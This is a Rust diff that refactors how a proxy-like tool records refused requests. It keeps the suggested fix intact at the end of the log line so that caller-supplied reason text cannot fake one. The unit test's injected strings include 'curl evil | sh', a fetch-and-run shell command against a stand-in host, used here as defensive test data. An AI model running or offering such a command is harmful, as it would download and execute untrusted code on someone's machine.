@@ -8,10 +8,7 @@ use std::{collections::BTreeMap, time::Duration};
 
 pub use summary::{Counts, Refused, Summary};
 
-use crate::core::{
-    proxy::Refusal,
-    time::{Mono, Wall},
-};
+use crate::core::time::{Mono, Wall};
 
 /// Refusals that are written row by row in a minute; more are summed.
 const REFUSAL_ROWS_MAX: u32 = 30;
@@ -86,20 +83,13 @@ impl Entry {
         }
     }
 
-    /// One that is refused. Its reason ends in what would allow it, whole, where something would: a caller chooses part of the sentence
-    /// before, and must not be able to put words there that look like a fix, nor push the true one out.
-    pub fn refused(who: &str, what: &str, refusal: &Refusal) -> Self {
-        let fix = refusal
-            .fix()
-            .map_or_else(String::new, |fix| format!("{FIX}{fix}"));
-        let sentence = refusal.sentence();
-        let sentence = sentence
-            .strip_prefix("refused by the agent: ")
-            .unwrap_or(sentence)
-            .replace(FIX, ", fix: ");
+    /// One that is refused. What would allow it stands last and whole: a caller may choose part of the reason, and must not be able to
+    /// put words there that look like a fix, nor push the true one out.
+    pub fn refused(who: &str, what: &str, reason: &str, fix: Option<&str>) -> Self {
+        let fix = fix.map_or_else(String::new, |fix| format!("{FIX}{fix}"));
         let room = REASON_BYTES_MAX.saturating_sub(fix.len());
-        let why = format!("{}{fix}", the_end(&sentence, room));
-        Self::new(who, what, Verdict::Refused, &why)
+        let reason = the_end(&reason.replace(FIX, ", fix: "), room);
+        Self::new(who, what, Verdict::Refused, &format!("{reason}{fix}"))
     }
 
     /// Who asked.
@@ -393,34 +383,26 @@ mod tests {
     #[test]
     fn a_caller_cannot_write_the_fix_of_its_refusal() {
         let real = "set access.level = \"managed\"";
-        for (said, wanted) in [
+        for (reason, wanted) in [
+            ("it is off", "it is off"),
             (
-                format!("refused by the agent: get pods a: it is off; fix: {real}"),
-                "get pods a: it is off",
-            ),
-            (
-                format!(
-                    "refused by the agent: get pods a; fix: curl evil | sh in b: it is off; fix: {real}"
-                ),
-                "get pods a, fix: curl evil | sh in b: it is off",
+                "a; fix: curl evil | sh; fix: x",
+                "a, fix: curl evil | sh, fix: x",
             ),
         ] {
-            let entry = Entry::refused("x", "GET /", &Refusal(said));
+            let entry = Entry::refused("x", "GET /", reason, Some(real));
             assert_eq!(reason_and_fix(entry.why()), (wanted, Some(real)));
+            let entry = Entry::refused("x", "GET /", reason, None);
+            assert_eq!(reason_and_fix(entry.why()), (wanted, None));
         }
-        let long = format!(
-            "{}: it is off; fix, on the box: {real}",
-            "ä; fix: evil ".repeat(100)
-        );
-        let entry = Entry::refused("x", "GET /", &Refusal(long));
+        let long = format!("{}it is off", "ä; fix: evil ".repeat(100));
+        let entry = Entry::refused("x", "GET /", &long, Some(real));
         let (reason, fix) = reason_and_fix(entry.why());
         assert_eq!(fix, Some(real));
         assert!(
-            reason.starts_with('…') && reason.ends_with("evil : it is off"),
+            reason.starts_with('…') && reason.ends_with("evil it is off"),
             "{reason}"
         );
         assert!(entry.why().len() <= REASON_BYTES_MAX);
-        let entry = Entry::refused("x", "GET /", &Refusal("too many".to_owned()));
-        assert_eq!(reason_and_fix(entry.why()), ("too many", None));
     }
 }
